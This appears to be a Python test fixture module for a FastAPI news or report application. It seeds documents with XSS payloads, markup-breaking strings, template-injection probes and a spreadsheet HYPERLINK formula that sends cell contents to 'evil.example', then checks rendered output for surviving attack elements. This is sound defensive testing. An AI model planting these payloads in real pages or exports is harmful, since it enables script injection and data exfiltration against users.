"""What a hostile reader, document or source brings: words that would run, and the routes that they are tried on.

The tests of `test_attacks_*.py` share it. Tags and attributes begin with "vx", so that one that comes out of a page is seen by its name.
"""

from __future__ import annotations

import re
from collections.abc import Callable, Coroutine, Iterator, Mapping
from concurrent.futures import ThreadPoolExecutor
from dataclasses import dataclass, replace
from typing import Any, TypeVar
from urllib.parse import unquote

import anyio
from fastapi import FastAPI
from lxml import etree
from lxml import html as lxml_html
from starlette.types import ASGIApp, Scope

from report_store import Paper, Said
from test_web_pages import papers

Result = TypeVar("Result")
TAGS = "<vx-t vxb=1>x</vx-t><script>vx()</script><img src=x onerror=vx()><svg/onload=vx()>"
BREAKS = "\"'`></title></style></textarea></svg></script>--></noscript>]]>"
QUOTED = '" vxc="1" onmouseover="vx() \' vxd=\'1\' `vxe'
SCRIPTED = "javascript:vx()//{{7*7}}${7*7}<%=7*7%>"
HOSTILE = f"{SCRIPTED} {QUOTED} {BREAKS} {TAGS}"
FORMULA = '=HYPERLINK("https://evil.example/?"&A1;"vx")'
LURE = "vx-of-the-analyst"  # stands in documents that the public may not read


def hostile_papers() -> list[Paper]:
    """Five sources, one official, in two quarters; every text that a document brings would run if it could."""
    found = []
    for number, paper in enumerate(papers()[::3]):  # two quarters of each
        official = paper.kind == "warning"
        # A word of its own between any two: alike, the documents would be copies of one, and one source.
        own = [HOSTILE.replace(" ", f" {chr(97 + number)}{n}q ") for n in range(len(paper.says))]
        says: list[Said] = [
            replace(s, sentence=f"{s.sentence} {h} {'' if official else LURE}")
            for s, h in zip(paper.says, own, strict=True)
        ]
        found.append(
            replace(
                paper, says=says, title=f"{FORMULA} {HOSTILE} {number}", name=f"{FORMULA}{number} {HOSTILE}",
                outlet=f"{FORMULA}{number} {HOSTILE}", publisher=f"{paper.source} {HOSTILE}", path=f"{FORMULA}/{TAGS}/{QUOTED}{number}.txt",
            )
        )  # fmt: skip
    return found


def came_out(text: bytes | str, *, xml: bool = False) -> list[str]:
    """Elements and attributes of the attack that a parser finds, with addresses that would run; [] is what is wished."""
    data = text.encode() if isinstance(text, str) else text
    root = (
        etree.fromstring(data, etree.XMLParser(resolve_entities=False))
        if xml
        else lxml_html.document_fromstring(data)
    )
    found = []
    for element in root.iter():
        if not isinstance(element.tag, str):
            continue
        name = etree.QName(element).localname.lower()
        if name.startswith("vx") or (name == "script" and "vx(" in "".join(element.itertext())):
            found.append(f"<{name}>")
        for key, value in element.attrib.items():
            short = etree.QName(key).localname.lower()
            target = re.sub(r"[\x00-\x20]", "", value).lower()
            if short.startswith(("vx", "on")) or (
                short in ("href", "src", "action", "formaction", "srcset", "data")
                and target.startswith(("javascript:", "vbscript:", "data:text", "//", "http"))
            ):
                found.append(f"{name} {short}={value[:40]}")
    return found


@dataclass(frozen=True, kw_only=True)
class Got:
    status: int
    headers: dict[str, str]
    body: bytes

    @property
    def text(self) -> str:
        return self.body.decode("utf-8", "replace")


def run_apart(attack: Callable[[], Coroutine[Any, Any, Result]]) -> Result:
    """Run it in a thread of its own: a browser that another file's tests left open keeps an event loop in this one."""
    with ThreadPoolExecutor(1) as threads:
        return threads.submit(anyio.run, attack).result()


async def ask(
    app: ASGIApp,
    target: str,
    *,
    method: str = "GET",
    headers: Mapping[str, str] | None = None,
    body: bytes = b"",
) -> Got:
    """One request as the server hands it over, nothing made plain on the way: clients would tidy up what an attacker would not."""
    path, _, query = target.partition("?")
    sent: list[dict[str, Any]] = [{"type": "http.request", "body": body, "more_body": False}]
    status, found = 0, bytearray()
    names: list[tuple[str, str]] = []
    given = {"host": "127.0.0.1"} | dict(headers or {})

    async def receive() -> dict[str, Any]:
        if sent:
            return sent.pop()
        await anyio.sleep_forever()
        raise AssertionError

    async def send(message: Any) -> None:
        nonlocal status
        if message["type"] == "http.response.start":
            status = message["status"]
            names.extend((k.decode("latin-1"), v.decode("latin-1")) for k, v in message["headers"])
        else:
            found.extend(message.get("body") or b"")

    scope: Scope = {
        "type": "http", "asgi": {"version": "3.0"}, "http_version": "1.1", "method": method, "scheme": "http", "root_path": "",
        "path": unquote(path), "raw_path": path.encode("latin-1", "replace"), "query_string": query.encode("latin-1", "replace"),
        "headers": [(k.lower().encode("latin-1"), v.encode("latin-1", "replace")) for k, v in given.items()],
        "client": ("192.0.2.1", 1), "server": ("127.0.0.1", 80),
    }  # fmt: skip
    await app(scope, receive, send)
    # What the library of the server would refuse to send: a line end in a header would begin another one.
    assert not any(sign in text for pair in names for text in pair for sign in "\r\n\x00"), names
    return Got(status=status, headers=dict(names), body=bytes(found))


def routes(app: FastAPI) -> list[tuple[str, frozenset[str]]]:
    """(path, methods) of everything that the application answers, routers of parts included: a new route is there by itself."""

    def walk(listed: Any) -> Iterator[tuple[str, frozenset[str]]]:
        for route in listed:
            if hasattr(route, "effective_candidates"):
                yield from walk(route.effective_candidates())
                continue
            known = getattr(route, "starlette_route", None) or getattr(route, "original_route", route)
            path = str(getattr(route, "path", "") or getattr(known, "path", ""))
            methods = getattr(route, "methods", None) or getattr(known, "methods", None)
            if getattr(known, "routes", None):
                yield from ((path + inner, found) for inner, found in walk(known.routes))
            elif path:
                yield (
                    path,
                    frozenset(methods or ("GET", "HEAD")),
                )  # an application of its own is given every method

    return sorted(walk(app.routes), key=lambda r: (r[0], sorted(r[1])))


def parameters(path: str) -> list[str]:
    return re.findall(r"\{(\w+)(?::\w+)?\}", path)


def filled(path: str, values: dict[str, str], other: str = "x") -> str:
    """The path with its parameters; those without a value are `other`, a language is a language."""
    known = {"lang": "fr", "form": "svg", "chart": "prices"} | values
    return re.sub(r"\{(\w+)(?::\w+)?\}", lambda m: known.get(m[1], other), path)
